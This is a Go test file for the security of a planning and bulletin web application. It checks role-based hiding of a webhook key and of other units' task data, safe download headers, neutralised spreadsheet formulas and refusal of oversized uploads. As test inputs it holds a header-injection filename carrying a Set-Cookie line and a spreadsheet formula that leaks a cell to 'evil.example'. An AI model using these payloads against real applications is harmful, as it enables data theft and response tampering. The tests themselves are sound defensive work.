package plan_test

import (
	"bytes"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"gaoxin/internal/plan"
)

// TestPlanWebhookURLStaysWithSettingsEditors: the robot URL carries its key,
// so only supervisors and admins may read it — not through the bulletin's
// formula either.
func TestPlanWebhookURLStaysWithSettingsEditors(t *testing.T) {
	f := newPlanFixture(t)
	h := f.h
	const secret = "https://qyapi.example.com/cgi-bin/webhook/send?key=SECRET-ROBOT-KEY"
	st := plan.DefaultSettings
	st.WebhookURL = secret
	if r := h.As("supervisor").Do("PUT", "/api/v1/plan/settings", st); r.Code != 200 {
		t.Fatalf("save settings: %d %s", r.Code, r.Body)
	}
	jfj := f.a.Lead.ID
	for _, tc := range []struct{ user, path string }{
		{"unit", fmt.Sprintf("/api/v1/plan/bulletin/units/%d?year=2023&month=6", jfj)},
		{"unit", "/api/v1/plan/settings"},
		{"leader", "/api/v1/plan/bulletin?year=2023&month=6"},
		{"leader", fmt.Sprintf("/api/v1/plan/bulletin/units/%d?year=2023&month=6", jfj)},
		{"leader", "/api/v1/plan/settings"},
		{"leader", "/plan/ranking?year=2023&month=6"},
		{"unit", "/plan/bulletin?year=2023&month=6"},
	} {
		r := h.As(tc.user).Get(tc.path)
		if r.Code != 200 {
			t.Errorf("%s GET %s = %d", tc.user, tc.path, r.Code)
		}
		if strings.Contains(string(r.Body), "SECRET-ROBOT-KEY") {
			t.Errorf("%s GET %s shows the webhook key", tc.user, tc.path)
		}
	}
}

// TestPlanUnitTreeHidesOtherUnitsTasks: jfj sees task A (its own) and the
// ancestors above it, but nothing from which task B's progress or flag can
// be read: B (kcj's alone) is 80 % and red-free here, A is 0 %, so a whole-plan
// action figure of 40 % would give B away as 2×40 − 0.
func TestPlanUnitTreeHidesOtherUnitsTasks(t *testing.T) {
	f := newPlanFixture(t)
	h := f.h
	unit2, sup := h.As("unit2"), h.As("supervisor")
	r := unit2.Do("POST", "/api/v1/plan/reports", map[string]any{"task_id": f.b.ID, "period": "2023-05", "pct": 80, "done": "推进", "submit": true})
	var rep plan.Report
	r.JSON(t, &rep)
	if r := sup.Do("POST", fmt.Sprintf("/api/v1/plan/reports/%d/accept", rep.ID), map[string]any{"version": rep.Version}); r.Code != 200 {
		t.Fatalf("accept: %d %s", r.Code, r.Body)
	}
	// B is overdue-flagged for the leader view: make it red by moving its deadline back.
	var b plan.Node
	sup.Get("/api/v1/plan/nodes/"+id(f.b)).JSON(t, &b)
	if r := sup.Do("PATCH", "/api/v1/plan/nodes/"+id(f.b), map[string]any{"title": b.Title, "lead_unit": "kcj", "start_on": "2023-01-01",
		"due_on": "2023-05-31", "deliverable": b.Deliverable, "version": b.Version}); r.Code != 200 {
		t.Fatalf("edit B: %d %s", r.Code, r.Body)
	}
	var all, mine struct {
		Roots []*plan.Node `json:"roots"`
	}
	h.As("leader").Get("/api/v1/plan?year=2023").JSON(t, &all)
	if got := all.Roots[0].Children[0].Children[0]; got.ProgressPct != "40.0%" || got.Flag != plan.Red {
		t.Fatalf("leader's action: %s %s", got.ProgressPct, got.Flag)
	}
	body := h.As("unit").Get("/api/v1/plan?year=2023")
	body.JSON(t, &mine)
	action := mine.Roots[0].Children[0].Children[0]
	if len(action.Children) != 1 || action.Children[0].ID != f.a.ID {
		t.Fatalf("unit sees tasks %+v", action.Children)
	}
	for _, n := range []*plan.Node{mine.Roots[0], mine.Roots[0].Children[0], action} {
		if n.Progress != 0 || n.Flag == plan.Red || n.Tasks > 1 {
			t.Errorf("unit's view of %s %q reveals other units' tasks: progress %s flag %s tasks %d", n.Level, n.Title, n.ProgressPct, n.Flag, n.Tasks)
		}
	}
	if strings.Contains(string(body.Body), "任务B") {
		t.Error("unit's tree names task B")
	}
	page := h.As("unit").Get("/plan?year=2023")
	if strings.Contains(string(page.Body), "40.0%") || strings.Contains(string(page.Body), `<span class="tag red" title=`) {
		t.Error("unit's plan page shows the whole-plan figure or flag of the action")
	}
}

// TestPlanAttachmentFilenameHeader: the download names the file in a
// Content-Disposition that a strict parser reads back unchanged, whatever
// characters the name holds.
func TestPlanAttachmentFilenameHeader(t *testing.T) {
	f := newPlanFixture(t)
	h := f.h
	unit, sup := h.As("unit"), h.As("supervisor")
	pdf := []byte("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")
	for i, name := range []string{"报告@2023=终稿.pdf", "a;b,c d.pdf", "x\r\nSet-Cookie: a=b.pdf", `q"uote'.pdf`, "plain.pdf"} {
		r := postMultipart(unit, "/plan/tasks/"+id(f.a)+"/reports", map[string]string{"period": fmt.Sprintf("2023-0%d", i+1), "pct": "10",
			"done": "x", "action": "submit"}, name, pdf)
		if r.Code != http.StatusSeeOther {
			t.Fatalf("upload %q: %d %s", name, r.Code, r.Body)
		}
		var repID int64
		fmt.Sscanf(r.Header.Get("Location"), "/plan/reports/%d", &repID)
		rep, err := h.App.Plan.Report(t.Context(), plan.Viewer{Role: "leader"}, repID)
		if err != nil || len(rep.Attachments) != 1 {
			t.Fatalf("report: %v", err)
		}
		dl := sup.Get(fmt.Sprintf("/plan/attachments/%d", rep.Attachments[0].ID))
		cd := dl.Header.Get("Content-Disposition")
		disp, params, err := mime.ParseMediaType(cd)
		if err != nil || disp != "attachment" || params["filename"] != rep.Attachments[0].Filename {
			t.Errorf("name %q: header %q parses as %q %v (%v)", name, cd, disp, params, err)
		}
		if strings.ContainsAny(cd, "\r\n") {
			t.Errorf("header with a line break: %q", cd)
		}
	}
}

// TestPlanBulletinXLSXNeutralisesFormulas: text from users (task titles,
// unit names) is stored as text cells formatted as text, so a title that
// starts with = + - @ can never run as a formula, even after an edit.
func TestPlanBulletinXLSXNeutralisesFormulas(t *testing.T) {
	f := newPlanFixture(t)
	h := f.h
	sup := h.As("supervisor")
	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	var a plan.Node
	sup.Get("/api/v1/plan/nodes/"+id(f.a)).JSON(t, &a)
	if r := sup.Do("PATCH", "/api/v1/plan/nodes/"+id(f.a), map[string]any{"title": evil, "lead_unit": "jfj", "co_units": []string{"kcj"},
		"start_on": "2023-01-01", "due_on": "2023-12-31", "deliverable": a.Deliverable, "version": a.Version}); r.Code != 200 {
		t.Fatalf("edit: %d %s", r.Code, r.Body)
	}
	x := sup.Get("/api/v1/plan/bulletin.xlsx?year=2023&month=6")
	wb, err := excelize.OpenReader(bytes.NewReader(x.Body))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := wb.GetRows("任务")
	found := false
	for i, row := range rows {
		for j, v := range row {
			if v != evil {
				continue
			}
			found = true
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := wb.GetCellFormula("任务", cell); fm != "" {
				t.Errorf("%s is a formula: %s", cell, fm)
			}
			sid, _ := wb.GetCellStyle("任务", cell)
			st, err := wb.GetStyle(sid)
			if err != nil || st.NumFmt != 49 {
				t.Errorf("%s is not formatted as text (style %+v %v)", cell, st, err)
			}
		}
	}
	if !found {
		t.Fatalf("title not in the workbook: %v", rows)
	}
}

// countingReader yields n bytes of a multipart body and counts what was read.
type countingReader struct {
	r    io.Reader
	read int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.read += int64(n)
	return n, err
}

// TestPlanHugeUploadIsCutShort: a 1 GiB upload is refused (413) after the
// server has read little more than the attachment limit.
func TestPlanHugeUploadIsCutShort(t *testing.T) {
	f := newPlanFixture(t)
	h := f.h
	unit := h.As("unit")
	const boundary = "xxBOUNDARYxx"
	head := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"period\"\r\n\r\n2023-05\r\n" +
		"--" + boundary + "\r\nContent-Disposition: form-data; name=\"pct\"\r\n\r\n10\r\n" +
		"--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n"
	body := &countingReader{r: io.MultiReader(strings.NewReader(head), io.LimitReader(zeros{}, 1<<30))}
	for _, path := range []string{"/plan/tasks/" + id(f.a) + "/reports"} {
		req := httptest.NewRequest("POST", path, body)
		req.Header.Set("Content-Type", "multipart/form-data; boundary="+boundary)
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		r := unit.Send(req)
		if r.Code != http.StatusRequestEntityTooLarge {
			t.Errorf("POST %s with 1 GiB: %d", path, r.Code)
		}
		if limit := int64(plan.DefaultSettings.MaxAttachmentKB)*1024 + 2<<20; body.read > limit {
			t.Errorf("POST %s read %d bytes, more than %d", path, body.read, limit)
		}
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}
